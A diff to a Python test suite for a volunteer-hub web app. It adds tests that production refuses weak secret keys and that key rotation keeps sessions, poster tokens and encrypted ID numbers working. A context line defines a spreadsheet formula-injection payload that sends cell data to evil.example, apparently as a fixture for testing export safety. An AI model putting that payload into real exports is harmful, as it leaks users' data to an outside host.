@@ -17,10 +17,12 @@ from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
 from tests.test_pages import login
 from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
 from tests.world import World
+from volunteer_hub.checkin import services as checkin
 from volunteer_hub.config import ConfigError, from_env
+from volunteer_hub.core import crypto
 from volunteer_hub.core.audit import AuditEntry
 from volunteer_hub.core.db import utcnow
-from volunteer_hub.core.errors import ValidationFailed
+from volunteer_hub.core.errors import Conflict, ValidationFailed
 from volunteer_hub.core.urls import external_url
 from volunteer_hub.extensions import db
 from volunteer_hub.merchants import services as merchants
@@ -28,7 +30,8 @@ from volunteer_hub.nodes import services as nodes
 from volunteer_hub.notifications import services as notifications
 from volunteer_hub.notifications.models import WebhookDelivery
 from volunteer_hub.people import logins, verification
-from volunteer_hub.people.models import LoginThrottle
+from volunteer_hub.people import services as people
+from volunteer_hub.people.models import LoginThrottle, VolunteerProfile
 from volunteer_hub.vouchers import services as vouchers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
@@ -525,3 +528,53 @@ def test_every_text_a_page_form_takes_has_a_maximum_length():
                 if not any(isinstance(v, Length) and v.max and v.max > 0 for v in validators):
                     missing.append(f"{form.__module__}.{form.__name__}.{name}")
     assert len(forms) > 20 and not missing, missing
+
+
+# 8. Secrets -------------------------------------------------------------------------------------------
+
+OLD_KEY, NEW_KEY = "0f9e8d7c6b5a49382716051a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e", PRODUCTION_KEY
+
+
+def test_production_refuses_weak_keys():
+    base = {"ENV_NAME": "production", "PUBLIC_URL": "https://hub.example.cn", "RATELIMIT_STORAGE_URI": "memory://"}
+    for weak in ("x", "test-secret", "ab" * 32):
+        with pytest.raises(ConfigError, match="32 random bytes"):
+            from_env("/tmp", {**base, "SECRET_KEY": weak})
+    with pytest.raises(ConfigError, match="ID_ENCRYPTION_KEY"):
+        from_env("/tmp", {**base, "SECRET_KEY": NEW_KEY, "ID_ENCRYPTION_KEY": "short"})
+
+
+@pytest.mark.app_config(SECRET_KEY=OLD_KEY, ID_ENCRYPTION_KEY=OLD_KEY)
+def test_a_key_rotation_loses_nothing(app, world, saturday):
+    ids = ["11010519491231002X", "110105198001010016"]
+    volunteers = [people.register_volunteer(name=f"有证{i}", phone=f"1351234567{i}", password="Passw0rd!",
+                                            home_station_id=world.s1.id, id_number=number)
+                  for i, number in enumerate(ids)]
+    poster = checkin.poster_token(saturday)
+    db.session.commit()
+    browser, unused = _logged_in(app, world.volunteer), app.test_client()
+    _copy_cookies(browser, unused)  # a copy of the same session that nobody uses during the rotation
+
+    # The operator's rotation: new keys in place, the old ones as fallbacks, restart.
+    app.config.update(SECRET_KEY=NEW_KEY, SECRET_KEY_FALLBACKS=[OLD_KEY], ID_ENCRYPTION_KEY=NEW_KEY,
+                      ID_ENCRYPTION_KEY_FALLBACKS=[OLD_KEY])
+    assert browser.get("/me").status_code == 200  # nobody is logged out
+    assert checkin.parse_token(poster, utcnow())[0].id == saturday.id  # printed posters still work
+    with pytest.raises(Conflict):  # duplicates are found before the stored numbers are rotated…
+        people.register_volunteer(name="冒用", phone="13512345699", password="Passw0rd!",
+                                  home_station_id=world.s1.id, id_number=ids[0])
+    db.session.rollback()
+    result = app.test_cli_runner().invoke(args=["hub", "rotate-keys"])
+    assert result.exit_code == 0 and "2 ID numbers re-encrypted" in result.output
+
+    app.config.update(ID_ENCRYPTION_KEY_FALLBACKS=[])  # the old encryption key is gone for good
+    for volunteer, number in zip(volunteers, ids, strict=True):
+        profile = db.session.get(VolunteerProfile, volunteer.id)
+        db.session.refresh(profile)
+        assert crypto.decrypt(profile.id_number_encrypted) == number
+    with pytest.raises(Conflict):  # …and after
+        people.register_volunteer(name="冒用", phone="13512345699", password="Passw0rd!",
+                                  home_station_id=world.s1.id, id_number=ids[1])
+    db.session.rollback()
+    app.config.update(SECRET_KEY_FALLBACKS=[])  # once the old signing key is dropped, its cookies end
+    assert unused.get("/me").status_code == 302
